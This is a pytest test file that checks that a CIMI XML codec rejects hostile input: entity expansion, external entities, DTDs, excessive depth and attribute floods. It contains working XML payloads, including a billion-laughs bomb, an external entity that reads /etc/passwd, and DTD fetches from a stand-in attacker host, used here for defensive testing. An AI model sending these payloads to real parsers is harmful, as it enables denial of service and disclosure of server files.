"""Hostile XML: entity expansion, external entities, DOCTYPEs, size, depth, attribute floods.

Every case must end in a :class:`DecodeError` (a 400), quickly, without
expanding anything or reading any file or URL.
"""

from __future__ import annotations

import pytest
from helpers import cost_ratio
from lxml import etree

from cimi.codec import Limits, Mode
from cimi.codec import xml as xml_codec
from cimi.errors import DecodeError
from cimi.resources import NS, table

MACHINE = table("Machine")

BILLION_LAUGHS = b"""<?xml version="1.0"?>
<!DOCTYPE lolz [
 <!ENTITY lol "lol">
 <!ENTITY lol1 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
 <!ENTITY lol2 "&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;">
 <!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">
 <!ENTITY lol4 "&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;">
 <!ENTITY lol5 "&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;">
 <!ENTITY lol6 "&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;">
 <!ENTITY lol7 "&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;">
 <!ENTITY lol8 "&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;">
 <!ENTITY lol9 "&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;">
]>
<Machine xmlns="http://schemas.dmtf.org/cimi/2"><name>&lol9;</name></Machine>"""

EXTERNAL_ENTITY = b"""<?xml version="1.0"?>
<!DOCTYPE Machine [<!ENTITY secret SYSTEM "file:///etc/passwd">]>
<Machine xmlns="http://schemas.dmtf.org/cimi/2"><name>&secret;</name></Machine>"""

EXTERNAL_DTD = b"""<?xml version="1.0"?>
<!DOCTYPE Machine SYSTEM "http://attacker.invalid/evil.dtd">
<Machine xmlns="http://schemas.dmtf.org/cimi/2"><name>x</name></Machine>"""

PARAMETER_ENTITY = b"""<?xml version="1.0"?>
<!DOCTYPE Machine [<!ENTITY % remote SYSTEM "http://attacker.invalid/x.dtd"> %remote;]>
<Machine xmlns="http://schemas.dmtf.org/cimi/2"/>"""

BARE_DOCTYPE = b"""<!DOCTYPE Machine><Machine xmlns="http://schemas.dmtf.org/cimi/2"/>"""

HOSTILE = {
    "billion laughs": BILLION_LAUGHS,
    "external entity": EXTERNAL_ENTITY,
    "external DTD": EXTERNAL_DTD,
    "parameter entity": PARAMETER_ENTITY,
    "bare DOCTYPE": BARE_DOCTYPE,
}


@pytest.mark.parametrize("name", sorted(HOSTILE))
def test_doctype_declarations_are_refused_before_parsing(name: str) -> None:
    with pytest.raises(DecodeError, match="DOCTYPE and ENTITY declarations are not allowed"):
        xml_codec.decode(HOSTILE[name], MACHINE)


@pytest.mark.parametrize("name", ["billion laughs", "external entity"])
def test_the_parser_itself_never_expands_entities(name: str) -> None:
    # Defence in depth: even past the DOCTYPE check, the parser keeps entity
    # references as references and reads nothing (or libxml2 refuses outright).
    try:
        root = etree.fromstring(HOSTILE[name], xml_codec._parser())
    except etree.XMLSyntaxError as exc:
        assert "amplification" in str(exc)
        return
    serialised = etree.tostring(root)
    assert b"lollol" not in serialised
    assert b"root:" not in serialised
    assert len(serialised) < 200


def test_an_undeclared_entity_is_malformed() -> None:
    data = f'<Machine xmlns="{NS}"><name>&secret;</name></Machine>'.encode()
    with pytest.raises(DecodeError, match="malformed XML"):
        xml_codec.decode(data, MACHINE)


def test_xinclude_is_not_processed() -> None:
    data = (
        f'<Machine xmlns="{NS}" xmlns:xi="http://www.w3.org/2001/XInclude">'
        '<xi:include href="file:///etc/passwd" parse="text"/><name>x</name></Machine>'
    ).encode()
    assert xml_codec.decode(data, MACHINE) == {"name": "x"}


@pytest.mark.parametrize(
    "data",
    [
        '<?xml version="1.0" encoding="UTF-16"?><Machine/>'.encode("utf-16"),
        b'<?xml version="1.0" encoding="ISO-8859-1"?><Machine/>',
        b"<Machine>\x00</Machine>",
    ],
)
def test_only_utf8_is_accepted(data: bytes) -> None:
    with pytest.raises(DecodeError, match="must be UTF-8"):
        xml_codec.decode(data, MACHINE)


def test_declared_utf8_is_fine() -> None:
    data = f'<?xml version="1.0" encoding="utf-8"?><Machine xmlns="{NS}"><cpu>1</cpu></Machine>'
    assert xml_codec.decode(data.encode(), MACHINE) == {"cpu": 1}


def test_oversized_bodies_are_refused_unread() -> None:
    limits = Limits(max_bytes=1024)
    data = f'<Machine xmlns="{NS}"><name>{"x" * 2000}</name></Machine>'.encode()
    with pytest.raises(DecodeError, match="body too large"):
        xml_codec.decode(data, MACHINE, limits=limits)


def test_deep_documents_are_refused() -> None:
    depth = 40
    data = (f'<Machine xmlns="{NS}">' + "<a>" * depth + "</a>" * depth + "</Machine>").encode()
    with pytest.raises(DecodeError, match="nested too deeply"):
        xml_codec.decode(data, MACHINE)


def test_very_deep_documents_are_malformed_or_too_deep() -> None:
    depth = 100_000
    data = (f'<Machine xmlns="{NS}">' + "<a>" * depth + "</a>" * depth + "</Machine>").encode()
    with pytest.raises(DecodeError, match=r"nested too deeply|malformed XML"):
        xml_codec.decode(data, MACHINE)


@pytest.mark.parametrize(
    "data",
    [b"", b"<", b"<Machine>", b"not xml", b"<a></b>", b"<?xml version='1.0'?>"],
)
def test_malformed_xml_is_a_decode_error(data: bytes) -> None:
    with pytest.raises(DecodeError):
        xml_codec.decode(data, MACHINE)


# -- structural limits: every decoder finishes within a bound linear in its size ---------


CREATE = table("MachineCreate")


def _attribute_flood(count: int) -> bytes:
    attributes = " ".join(f'a{i}="x"' for i in range(count))
    return f'<MachineCreate xmlns="{NS}" {attributes}><name>x</name></MachineCreate>'.encode()


def _valid_of_size(size: int) -> bytes:
    """A valid MachineCreate of about ``size`` bytes: many properties, as a real client sends."""
    head = f'<MachineCreate xmlns="{NS}"><name>x</name><machineTemplate href="/t"/>'
    entries: list[str] = []
    length = len(head) + len("</MachineCreate>")
    while length < size:
        entry = f'<property key="k{len(entries)}">value</property>'
        entries.append(entry)
        length += len(entry)
    return (head + "".join(entries) + "</MachineCreate>").encode()


def test_an_attribute_flood_is_refused_naming_the_limit() -> None:
    with pytest.raises(DecodeError, match="MachineCreate: more than 256 attributes"):
        xml_codec.decode(_attribute_flood(20_000), CREATE, mode=Mode.CREATE)


def test_attributes_up_to_the_limit_are_read_as_before() -> None:
    limits = Limits(max_attributes=3)
    data = f'<Machine xmlns="{NS}" a="1" b="2" c="3"><cpu>1</cpu></Machine>'.encode()
    assert xml_codec.decode(data, MACHINE, limits=limits) == {"cpu": 1}
    with pytest.raises(DecodeError, match="Machine: more than 3 attributes"):
        xml_codec.decode(data.replace(b'c="3"', b'c="3" d="4"'), MACHINE, limits=limits)


def test_a_nested_element_with_too_many_attributes_is_named() -> None:
    limits = Limits(max_attributes=2)
    data = f'<Machine xmlns="{NS}"><cpu a="1" b="2" c="3">1</cpu></Machine>'.encode()
    with pytest.raises(DecodeError, match=r"Machine\.cpu: more than 2 attributes"):
        xml_codec.decode(data, MACHINE, limits=limits)


def test_too_many_elements_are_refused() -> None:
    limits = Limits(max_elements=100)
    data = (f'<Machine xmlns="{NS}">' + "<x/>" * 100 + "</Machine>").encode()
    with pytest.raises(DecodeError, match="more than 100 elements"):
        xml_codec.decode(data, MACHINE, limits=limits)
    data = (f'<Machine xmlns="{NS}">' + "<x/>" * 99 + "</Machine>").encode()
    assert xml_codec.decode(data, MACHINE, limits=limits) == {}


def test_an_attribute_flood_costs_what_a_valid_body_of_its_size_costs() -> None:
    # Reading tens of thousands of attributes through lxml's attribute mapping
    # was quadratic (seconds for a few hundred KiB); the limit is now checked
    # first, in one pass, and values are read only for attributes a table has.
    flood = _attribute_flood(20_000)
    valid = _valid_of_size(len(flood))
    assert xml_codec.decode(valid, CREATE, mode=Mode.CREATE)["properties"]

    def refuse() -> None:
        with pytest.raises(DecodeError):
            xml_codec.decode(flood, CREATE, mode=Mode.CREATE)

    ratio = cost_ratio(refuse, lambda: xml_codec.decode(valid, CREATE, mode=Mode.CREATE))
    assert ratio <= 10, f"refusing {len(flood)} bytes cost {ratio:.1f}x a valid body's parse"


def test_attribute_values_are_read_in_linear_time_below_the_limit() -> None:
    # With the limit lifted, the codec itself must still be linear in the attributes.
    limits = Limits(max_attributes=1_000_000)
    flood = _attribute_flood(20_000)
    valid = _valid_of_size(len(flood))

    def refuse() -> None:
        with pytest.raises(DecodeError):
            xml_codec.decode(flood, CREATE, mode=Mode.CREATE, limits=limits)

    ratio = cost_ratio(refuse, lambda: xml_codec.decode(valid, CREATE, mode=Mode.CREATE))
    assert ratio <= 10, f"{len(flood)} bytes of attributes cost {ratio:.1f}x a valid body's parse"
